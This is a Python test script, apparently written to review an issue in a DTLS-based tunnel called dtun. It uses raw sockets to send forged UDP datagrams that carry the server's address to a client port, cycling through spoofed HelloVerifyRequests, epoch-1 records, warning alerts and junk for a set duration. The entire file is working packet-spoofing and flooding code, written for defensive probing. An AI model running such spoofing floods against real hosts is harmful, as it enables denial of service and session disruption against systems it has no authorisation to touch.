#!/usr/bin/env python3
"""An off-path spoofer: floods a dtun client's UDP port with datagrams whose source is the
server's address and port (raw socket, IP_HDRINCL), for probing (review of issue 21).

Usage: spoof_flood.py KINDS SRC_IP SRC_PORT DST_IP DST_PORT SECONDS
KINDS: comma-separated of
  hvr     HelloVerifyRequests with a new cookie each time
  early   records shaped like the server's address message (app data, epoch 1, GCM/CCM_8)
  epoch1  epoch-1 handshake records (a forged Finished)
  junk    malformed records
  warn    plaintext warning alerts (no_renegotiation), which end nothing in TLS
Prints how many it sent. Run it only in a network namespace of your own.
"""
import os, socket, struct, sys, time

def rec(seq, body, ct=22, epoch=0):
    return struct.pack(">BHH", ct, 0xFEFD, epoch) + seq.to_bytes(6, "big") + struct.pack(">H", len(body)) + body

def msg(typ, seq, body):
    n = len(body).to_bytes(3, "big")
    return bytes([typ]) + n + struct.pack(">H", seq) + b"\0\0\0" + n + body

def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack(f">{len(b)//2}H", b))
    while s >> 16: s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF

def packet(src, sport, dst, dport, payload):
    udp = struct.pack(">HHHH", sport, dport, 8 + len(payload), 0) + payload
    ph = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack(">BBH", 0, 17, len(udp))
    c = csum(ph + udp) or 0xFFFF
    udp = udp[:6] + struct.pack(">H", c) + udp[8:]
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack(">H", csum(ip)) + ip[12:]
    return ip + udp

def main():
    kinds = sys.argv[1].split(",")
    src, sport, dst, dport, secs = sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5]), float(sys.argv[6])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    end = time.time() + secs
    i = sent = 0
    while time.time() < end:
        k = kinds[i % len(kinds)]
        r = os.urandom(40)
        if k == "hvr":
            p = rec(i, msg(3, 0, b"\xfe\xff\x08" + r[:8]))
        elif k == "early":
            body_len = (8 + 8 + 16) if i % 2 else (8 + 8 + 8)
            p = rec(1 << 40 | i, r[:body_len] if body_len <= 40 else (r + r)[:body_len], ct=23, epoch=1)
        elif k == "warn":
            p = rec(i, b"\x01\x64", ct=21)
        elif k == "epoch1":
            p = rec(i, r[:8 + 24 + 16], ct=22, epoch=1)
        else:
            p = r[: 5 + i % 30]
        try:
            s.sendto(packet(src, sport, dst, dport, p), (dst, 0)); sent += 1
        except OSError:
            time.sleep(0.0005)
        i += 1
    print(f"spoofed kinds={sys.argv[1]} sent={sent}", flush=True)

main()
